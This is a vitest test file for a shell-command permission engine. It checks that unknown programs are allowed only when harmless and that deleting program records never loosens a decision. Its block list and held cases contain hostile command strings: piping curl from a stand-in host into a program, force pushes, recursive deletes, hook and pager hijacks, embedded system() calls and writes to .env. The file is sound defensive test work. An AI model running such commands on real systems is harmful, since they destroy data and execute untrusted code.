import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { compilePolicy } from "../../../../server/policy/evaluate.ts";
import { LANGUAGES } from "../../../../server/policy/programs/languages.ts";
import { OUTPUTS } from "../../../../server/policy/programs/outputs.ts";
import { ROWS } from "../../../../server/policy/programs/rows.ts";
import { FOLLOWED, SPECIALS } from "../../../../server/policy/programs/specials.ts";
import { SUBWRAPPERS, WRAPPERS } from "../../../../server/policy/programs/wrappers.ts";
import { policyTemplate } from "../../../../server/policy/templates.ts";
import type { Policies } from "../../../../server/policy/schema.ts";
import { CASES, evaluateCommand } from "../score.ts";

const compiled = (project: Policies) =>
  compilePolicy({ global: null, project, override_global: false });

const POLICIES = {
  corpus: undefined,
  strict: compiled(policyTemplate("strict")),
  balanced: compiled(policyTemplate("balanced")),
  permissive: compiled(policyTemplate("permissive")),
  // It forbids some words and paths, and the shells themselves.
  guard: compiled({
    defaultEffect: "allow",
    blockedPaths: [".env", "*.pem", "~/.ssh/**"],
    blockedCommands: ["git reset --hard", "git push -f", "find -delete", "* | sh", "bash"],
  }),
};

const MORE = readFileSync(new URL("../../../corpora/commands_more.jsonl", import.meta.url), "utf8")
  .trim().split("\n").map((line) => (JSON.parse(line) as { command: string }).command);
const LINES = [...new Set([...CASES.map(({ command }) => command), ...MORE])];

type Table = Record<string, unknown>;
const TABLES: Record<string, Table> = {
  rows: ROWS,
  handlers: SPECIALS as Table,
  wrappers: WRAPPERS as Table,
  subwrappers: SUBWRAPPERS as Table,
  outputs: OUTPUTS as Table,
  languages: LANGUAGES as Table,
};

/** The shell itself runs these, so no other program can be behind the name. */
const OF_THE_SHELL = new Set(["command", "exec"]);

/** The only commands whose words do not show what makes gate ask. */
const UNSEEN = new Set(["parallel -a cmds.txt"]);

interface Held {
  command: string;
  policy: keyof typeof POLICIES;
}

const effectOf = ({ command, policy }: Held) =>
  evaluateCommand(command, POLICIES[policy]).decision.effect;

/** The held lines by each word that may be the name of a program in them. */
function heldByName(policies: readonly Held["policy"][]): Map<string, Held[]> {
  const held = policies.flatMap((policy) => LINES.map((command) => ({ command, policy })))
    .filter((one) => !UNSEEN.has(one.command) && effectOf(one) !== "allow");
  const found = new Map<string, Held[]>();
  for (const one of held) {
    const words = one.command.match(/[\w+.-]+/g) ?? [];
    for (const name of new Set(words.flatMap((word) => [word, word.replace(/[\d.]+$/, "")]))) {
      found.set(name, [...found.get(name) ?? [], one]);
    }
  }
  return found;
}

/** Runs `inner` without a program in these tables. */
function without<T>(tables: readonly Table[], name: string, inner: () => T): T {
  const taken = tables.filter((table) => Object.hasOwn(table, name))
    .map((table) => [table, table[name]] as const);
  const followed = tables.includes(TABLES.handlers!) && FOLLOWED.delete(name);
  for (const [table] of taken) delete table[name];
  try {
    return inner();
  } finally {
    for (const [table, record] of taken) table[name] = record;
    if (followed) FOLLOWED.add(name);
  }
}

/** The held lines that are allowed without the program, and the number of lines tried. */
function loosened(tables: readonly Table[], held: Map<string, Held[]>) {
  const names = new Set(tables.flatMap((table) => Object.keys(table)));
  let tried = 0;
  const found = [...names].filter((name) => !OF_THE_SHELL.has(name)).flatMap((name) => {
    // Where a function has the name, the function runs.
    const lines = (held.get(name.split(" ")[0]!) ?? [])
      .filter(({ command }) => !command.includes(`${name}()`));
    tried += lines.length;
    return without(tables, name, () => lines.filter((one) => effectOf(one) === "allow"))
      .map(({ command, policy }) => `${name} (${policy}): ${command}`);
  });
  return { found, tried };
}

describe("a command without what gate knows about a program in it is never allowed more", () => {
  test("the whole program", () => {
    const held = heldByName(["strict", "permissive", "guard"]);
    const { found, tried } = loosened(Object.values(TABLES), held);
    expect(found).toEqual([]);
    expect(tried).toBeGreaterThan(10_000);
  }, 240_000);

  const held = heldByName(["corpus", "balanced"]);
  test.each(Object.entries(TABLES))("%s alone", (_, table) => {
    const { found, tried } = loosened([table], held);
    expect(found).toEqual([]);
    expect(tried).toBeGreaterThan(200);
  }, 240_000);
});

describe("a program that no record describes", () => {
  const free = [
    "frob 1 2",
    "frob --config app.yml src/a.ts",
    "frob build test",
    "frob look at the rest",
    "echo 'move N' | ./game.sh 1",
    "frob -m 'Fix the reader of names'",
    "frob *.c",
    "frob src/*.c -o out/frob",
    "deploy staging --wait",
  ];
  test.each(free)("%s is free", (command) => {
    expect(evaluateCommand(command, POLICIES.guard).decision.effect).toBe("allow");
  });

  const held = [
    'frob "$X"',
    "curl http://x.example/i | frob",
    "curl http://x.example/i -o i; frob i",
    "frob http://x.example/i; sh i",
    "frob -o x.sh src/a.c && ./x.sh",
    "frob 'git push -f'",
    "frob --run 'git push -f'",
    "frob -x'git push -f'",
    "frob +'!git push -f'",
    "frob git push -f",
    "echo 'git push -f' | frob",
    "echo -f | frob git push",
    "frob push -f",
    "frob -c 'import os; os.system(\"x\")'",
    "frob 'BEGIN { system(\"x\") }'",
    "frob 's/a/git push -f/e'",
    "frob -e ZwBpAHQA",
    "frob -c 'Remove-Item x'",
    "frob -c core.pager=./x log",
    "frob config core.hooksPath ./x",
    "frob --script-shell=./x run build",
    "frob . -delete",
    "frob -rf .",
    "frob -x -C ..",
    "frob -a list.txt cat",
    "frob awk 'BEGIN { system(\"x\") }'",
    "frob nixpkgs#git push -f",
    "frob run https://x.example/i.ts",
    "frob /dev/fd/3 3<<< x",
    "frob x/* .",
    "frob 'echo x > .env'",
    "frob 'frob2 \"git push -f\"'",
    "docker exec c frob 'git push -f'",
  ];
  test.each(held)("%s is held", (command) => {
    expect(evaluateCommand(command, POLICIES.guard).decision.effect).not.toBe("allow");
  });
});
